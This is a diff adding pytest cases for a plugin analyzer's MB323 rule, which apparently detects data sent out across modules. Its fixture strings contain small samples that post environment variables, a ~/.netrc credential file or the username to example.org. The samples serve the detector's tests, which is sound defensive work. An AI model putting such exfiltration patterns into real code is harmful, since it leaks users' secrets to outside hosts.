@@ -310,3 +310,59 @@ def test_recursion_terminates(tmp_path: Path) -> None:
         "def go():\n    f(dict(os.environ), 10)\n"
     )
     assert lines(tmp_path, source) == [(7, (13,))]
+
+
+def plugin_findings(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int, tuple[tuple[str, int], ...]]]:
+    """(path, line, related places) of every MB323 finding on a plugin made of ``files``."""
+    root = write_plugin(tmp_path, {**files, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
+    report = run(root, Config(select=("MB323",)))
+    assert not report.errors, report.errors
+    return sorted((f.span.path, f.span.line, tuple((r.path, r.line) for r in f.related))
+                  for p in report.plugins for f in p.findings if f.rule == "MB323")
+
+
+ACROSS_MODULES = {
+    "a helper module's result sent": (
+        {"grab.py": "import os\n\ndef env():\n    return os.environ.copy()\n",
+         "__init__.py": "import json\nimport requests\nfrom .grab import env\n\n"
+                        "def go(url):\n    requests.post(url, data=json.dumps(env()))\n"},
+        [("__init__.py", 6, (("grab.py", 4),))]),
+    "a helper module's sender given the data (keyword)": (
+        {"net.py": "import socket\n\ndef send(host, payload=b''):\n    s = socket.create_connection((host, 80))\n"
+                   "    s.sendall(payload)\n",
+         "__init__.py": "from pathlib import Path\nfrom .net import send\n\n"
+                        "def go():\n    send('example.org', payload=(Path.home() / '.netrc').read_bytes())\n"},
+        [("net.py", 5, (("__init__.py", 5),))]),
+    "a helper class constructed in another module": (
+        {"up.py": "import requests\n\nclass Uploader:\n    def __init__(self, data):\n"
+                  "        requests.post('https://example.org', json=data)\n",
+         "__init__.py": "import getpass\nfrom .up import Uploader\n\ndef go():\n    Uploader({'u': getpass.getuser()})\n"},
+        [("up.py", 5, (("__init__.py", 5),))]),
+    "honest: a sender given the plugin's own data": (
+        {"net.py": "import requests\n\ndef send(payload):\n    requests.post('https://api.example.org', json=payload)\n",
+         "__init__.py": "from .net import send\n\ndef go(notes):\n    send({'notes': notes})\n"},
+        []),
+    "honest: a config module's values sent": (
+        {"config.py": "import os\n\ndef token():\n    return os.environ.get('SERVICE_TOKEN', '')\n",
+         "__init__.py": "import requests\nfrom .config import token\n\n"
+                        "def go(url):\n    requests.get(url, headers={'Authorization': token()})\n"},
+        []),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ACROSS_MODULES))
+def test_flows_across_modules(tmp_path: Path, case: str) -> None:
+    files, expected = ACROSS_MODULES[case]
+    assert plugin_findings(tmp_path, files) == expected
+
+
+def test_cached_facts_give_the_same_findings(tmp_path: Path) -> None:
+    files, expected = ACROSS_MODULES["a helper module's sender given the data (keyword)"]
+    root = write_plugin(tmp_path / "p", {**files, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
+    config = Config(select=("MB323",), cache_dir=str(tmp_path / "cache"))
+    first = run(root, config, use_cache=True)
+    second = run(root, config, use_cache=True)
+    assert any((tmp_path / "cache").rglob("*")), "the first run wrote the cache"
+    assert [f.message for p in first.plugins for f in p.findings] == \
+        [f.message for p in second.plugins for f in p.findings]
+    assert len([f for p in second.plugins for f in p.findings]) == len(expected)
